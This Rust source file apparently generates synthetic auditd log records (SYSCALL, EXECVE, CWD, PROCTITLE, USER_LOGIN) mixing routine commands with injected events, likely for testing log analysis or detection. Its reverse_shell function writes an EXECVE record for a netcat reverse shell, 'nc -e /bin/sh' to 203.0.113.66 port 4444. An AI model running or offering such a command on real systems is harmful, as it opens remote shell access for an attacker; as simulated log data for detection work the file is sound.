//! auditd records (`auditd.conf` with `name_format = hostname`): SYSCALL, EXECVE, CWD and PROCTITLE of one event share a serial.

use super::put::{Hex, Pad, put};
use super::scene::Scene;
use super::world::Server;

/// Commands of the background: program and arguments.
const COMMANDS: [&[&str]; 5] = [
    &["ls", "-la", "/var/log"],
    &["cat", "/etc/hosts"],
    &["systemctl", "status", "sshd"],
    &["tar", "czf", "/backup/home.tgz", "/home"],
    &["ps", "aux"],
];

/// The rest of an execve event.
#[derive(Clone, Debug)]
pub(crate) struct Pending {
    host: Server,
    second: u64,
    ms: u64,
    serial: u64,
    command: &'static [&'static str],
    /// Records already written.
    written: u64,
}

pub(crate) fn write(out: &mut Vec<u8>, scene: &mut Scene<'_>) {
    if let Some(mut pending) = scene.audit.take() {
        pending.written += 1;
        open(out, ["SYSCALL", "EXECVE", "CWD", "PROCTITLE"][pending.written as usize], &pending);
        match pending.written {
            1 => arguments(out, pending.command),
            2 => put!(out; " cwd=\"/home/ops\""),
            _ => title(out, pending.command),
        }
        if pending.written < 3 {
            scene.audit = Some(pending);
        }
    } else if scene.rng.per_mille(300) {
        login(out, scene);
    } else {
        let command = COMMANDS[scene.rng.below(COMMANDS.len() as u64) as usize];
        let pending = begin(scene, command);
        syscall(out, scene, &pending);
        scene.audit = Some(pending);
    }
}

fn begin(scene: &mut Scene<'_>, command: &'static [&'static str]) -> Pending {
    let ms = scene.stamp.ns / 1_000_000 % 1_000;
    Pending {
        host: scene.server(),
        second: scene.stamp.second(),
        ms,
        serial: 10_000 + scene.serial,
        command,
        written: 0,
    }
}

fn open(out: &mut Vec<u8>, kind: &str, event: &Pending) {
    put!(out; "node=", event.host, " type=", kind, " msg=audit(", event.second, ".", Pad(event.ms, 3), ":", event.serial, "):");
}

fn syscall(out: &mut Vec<u8>, scene: &mut Scene<'_>, event: &Pending) {
    let (user, pid, a0) = (scene.user(), scene.rng.range(1_000, 400_000), scene.rng.draw());
    let uid = 1_000 + u64::from(user.0);
    open(out, "SYSCALL", event);
    put!(out; " arch=c000003e syscall=59 success=yes exit=0 a0=", Hex(a0, 12), " a1=", Hex(a0 >> 5, 12), " a2=", Hex(a0 >> 9, 12), " a3=8 items=2 ppid=", pid - 1, " pid=", pid,
        " auid=", uid, " uid=", uid, " gid=100 euid=", uid, " suid=", uid, " fsuid=", uid, " egid=100 sgid=100 fsgid=100 tty=pts", a0 % 8, " ses=", a0 % 9_000,
        " comm=\"", event.command[0], "\" exe=\"/usr/bin/", event.command[0], "\" subj=unconfined key=\"exec\"");
}

fn arguments(out: &mut Vec<u8>, command: &[&str]) {
    put!(out; " argc=", command.len() as u64);
    for (at, argument) in command.iter().enumerate() {
        put!(out; " a", at as u64, "=\"", *argument, "\"");
    }
}

/// PROCTITLE is hexadecimal, with NUL between arguments.
fn title(out: &mut Vec<u8>, command: &[&str]) {
    put!(out; " proctitle=");
    for byte in command.join("\0").bytes() {
        const DIGITS: &[u8; 16] = b"0123456789ABCDEF";
        out.extend([DIGITS[usize::from(byte >> 4)], DIGITS[usize::from(byte & 15)]]);
    }
}

fn login(out: &mut Vec<u8>, scene: &mut Scene<'_>) {
    let (user, from, pid) = (scene.user(), scene.inside(), scene.rng.range(1_000, 400_000));
    let event = begin(scene, COMMANDS[0]);
    open(out, "USER_LOGIN", &event);
    put!(out; " pid=", pid, " uid=0 auid=", 1_000 + u64::from(user.0), " ses=", pid % 9_000, " subj=unconfined msg='op=login id=", 1_000 + u64::from(user.0),
        " exe=\"/usr/sbin/sshd\" hostname=", from, " addr=", from, " terminal=/dev/pts/", pid % 8, " res=success'");
}

/// The EXECVE record of a reverse shell.
pub(crate) fn reverse_shell(out: &mut Vec<u8>, scene: &mut Scene<'_>) {
    let event = begin(scene, &["nc", "-e", "/bin/sh", "203.0.113.66", "4444"]);
    open(out, "EXECVE", &event);
    arguments(out, event.command);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn title_is_hexadecimal_with_nul_between() {
        let mut out = Vec::new();
        title(&mut out, &["ps", "aux"]);
        assert_eq!(out, b" proctitle=707300617578");
    }
}
